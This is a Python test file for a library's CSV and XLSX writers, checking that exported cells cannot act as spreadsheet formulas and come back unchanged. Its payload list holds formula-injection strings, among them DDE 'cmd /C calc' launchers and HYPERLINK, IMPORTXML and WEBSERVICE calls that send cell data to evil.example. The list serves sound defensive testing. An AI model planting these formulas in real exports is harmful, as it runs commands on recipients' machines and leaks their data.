"""What we write is inert in other programs and comes back as it was."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from firmament.lib.tabular import delimited, workbook
from firmament.lib.tabular.encoding import decode
from firmament.lib.tabular.formulas import hidden, revealed
from firmament.lib.tabular.reading import read_table
from firmament.lib.tabular.table import TableError, TableLimits
from firmament.lib.tabular.writing import write_csv, write_xlsx

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+49 40 1234",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "\t",
    "=",
    "-",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "+cmd|' /C notepad'!'A1'",
)

# XML has no place for these at all, and a lone surrogate has no encoding.
text = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0\ufffe\uffff"), max_size=40)
texts = st.one_of(text, st.sampled_from(FORMULAS), st.builds(str.__add__, st.sampled_from(FORMULAS), text))


def back_from_csv(content: bytes) -> list[tuple[str, ...]]:
    _, rows = delimited.rows(decode(content)[0], TableLimits())
    return [row.cells for row in rows]


def back_from_xlsx(content: bytes) -> list[tuple[str, ...]]:
    _, _, rows = workbook.rows(content, "xlsx", "", TableLimits())
    return [row.cells for row in rows]


def test_no_formula_is_active_in_a_csv_file() -> None:
    into = io.BytesIO()
    write_csv(["Name", "=Header"], [[each, each] for each in FORMULAS], into)

    read = list(csv.reader(io.StringIO(into.getvalue().decode("utf-8-sig"), newline="")))

    assert len(read) == len(FORMULAS) + 1 == 30
    assert [
        cell for row in read for cell in row if cell.strip("\ufeff\u200b \u00a0")[:1] in "=+-@＝＋－＠\t\r\n"
    ] == []


@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=5))
@settings(max_examples=300, deadline=None)
def test_a_csv_file_comes_back_as_it_was(rows: list[tuple[str, str]]) -> None:
    into = io.BytesIO()
    # A declared third column keeps the delimiter beyond doubt, as every real export has several.
    write_csv(["Name", "Note", "End"], [[*row, "x"] for row in rows], into)

    assert back_from_csv(into.getvalue())[1:] == [(*row, "x") for row in rows]


@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=5))
@settings(max_examples=150, deadline=None)
def test_a_workbook_comes_back_as_it_was(rows: list[tuple[str, str]]) -> None:
    into = io.BytesIO()
    write_xlsx(["Name", "Note", "End"], [[*row, "x"] for row in rows], into)

    assert back_from_xlsx(into.getvalue())[1:] == [(*row, "x") for row in rows]


@given(texts)
@settings(deadline=None)
def test_hiding_a_formula_is_undone_exactly(text: str) -> None:
    assert revealed(hidden(text)) == text


def test_formulas_survive_the_whole_way_in_and_out() -> None:
    for write in (write_csv, write_xlsx):
        into = io.BytesIO()
        write(["Name", "Note"], [[each, "x"] for each in FORMULAS], into)

        table = read_table(into.getvalue())

        assert [row.cells[0] for row in table.rows] == list(FORMULAS)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link() -> None:
    into = io.BytesIO()
    write_xlsx(
        ["Name"], [[each] for each in (*FORMULAS, "https://example.org", "mailto:a@example.org")], into
    )

    with workbook.zipfile.ZipFile(into) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}

    assert b"<f>" not in parts["xl/worksheets/sheet1.xml"]
    assert b"<hyperlink" not in parts["xl/worksheets/sheet1.xml"]
    assert "xl/worksheets/_rels/sheet1.xml.rels" not in parts


def test_values_are_written_alike_in_both_formats() -> None:
    row = [7, Decimal("12.25"), date(2026, 3, 1), datetime(2026, 3, 1, 9, 30), True, None, 2**60, "00123"]
    expected = ("7", "12.25", "2026-03-01", "2026-03-01 09:30:00", "TRUE", "", str(2**60), "00123")
    for write in (write_csv, write_xlsx):
        into = io.BytesIO()
        write([f"c{number}" for number in range(len(row))], [row], into)

        assert read_table(into.getvalue()).rows[0].cells == expected


def test_negative_numbers_stay_numbers() -> None:
    into = io.BytesIO()
    write_csv(["Fee", "x"], [[-5, "y"], [Decimal("-2.5"), "y"]], into)

    assert into.getvalue().decode("utf-8-sig").splitlines()[1:] == ["-5,y", "-2.5,y"]


def test_a_text_that_excel_cannot_hold_is_refused_and_not_cut() -> None:
    with pytest.raises(TableError, match="Row 2"):
        write_xlsx(["Note"], [["x" * 32_768]], io.BytesIO())
